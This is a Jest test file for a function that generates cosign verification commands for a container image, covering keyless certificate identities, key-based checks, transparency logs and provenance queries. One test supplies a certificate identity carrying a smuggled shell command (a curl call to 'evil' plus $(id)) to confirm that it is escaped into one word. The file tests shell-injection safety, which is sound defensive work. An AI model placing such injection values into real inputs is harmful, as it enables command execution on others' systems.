import { expect, test } from '@jest/globals';
import { exact, workflowIdentity } from '@tidegate/core';
import { verifyCommands } from './verify-commands.ts';

const REFERENCE = `ghcr.io/acme/app@sha256:${'0'.repeat(64)}`;

test('keyless: the commands name the exact expected identity', () => {
  const subject = exact('https://github.com/acme/app/.github/workflows/release.yml@refs/tags/v1.2.3');
  const issuer = exact('https://token.actions.githubusercontent.com');
  expect(verifyCommands(REFERENCE, { identities: [{ subject, issuer }] })[0]).toBe(
    `cosign verify --certificate-identity ${subject.kind === 'exact' ? subject.value : ''} --certificate-oidc-issuer https://token.actions.githubusercontent.com ${REFERENCE}`,
  );
});

test('an identity that a shell would take for more than a word is one word', () => {
  const subject = exact("https://github.com/acme/app/.github/workflows/a.yml@refs/heads/x;curl 'evil'$(id)");
  const [command] = verifyCommands(REFERENCE, { identities: [{ subject, issuer: exact('https://issuer.example') }] });
  expect(command).toContain(
    `--certificate-identity 'https://github.com/acme/app/.github/workflows/a.yml@refs/heads/x;curl '\\''evil'\\''$(id)' --`,
  );
});

test('with a key: the key, and that no log entry is required', () => {
  expect(verifyCommands(REFERENCE, {})[0]).toBe(
    `cosign verify --key cosign.pub --insecure-ignore-tlog=true ${REFERENCE}`,
  );
});

test('with a key and a log: nothing is left out', () => {
  expect(verifyCommands(REFERENCE, { log: 'required' })[0]).toBe(`cosign verify --key cosign.pub ${REFERENCE}`);
});

test('of the verdicts, the newest one for this repository must be of yes: cosign accepts one of no as well', () => {
  const [, provenance, verdict] = verifyCommands(REFERENCE, {});
  expect(provenance).toMatch(/--type https:\/\/slsa\.dev\/provenance\/v1 ghcr\.io\S+$/);
  expect(verdict).toContain('select(.resourceUri == "ghcr.io/acme/app")');
});

test('keyless: the built repository is required, and the comparisons that cosign cannot make are named', () => {
  const identity = workflowIdentity({
    workflow: 'tidegate/tidegate/.github/workflows/commit-to-registry.yml@refs/tags/v1',
    repository: 'acme/app',
  });
  const [said, command] = verifyCommands(REFERENCE, { identities: [identity] });
  expect(said).toBe("# cosign cannot check that the runner was GitHub's.");
  expect(command).toContain('--certificate-github-workflow-repository acme/app');
});
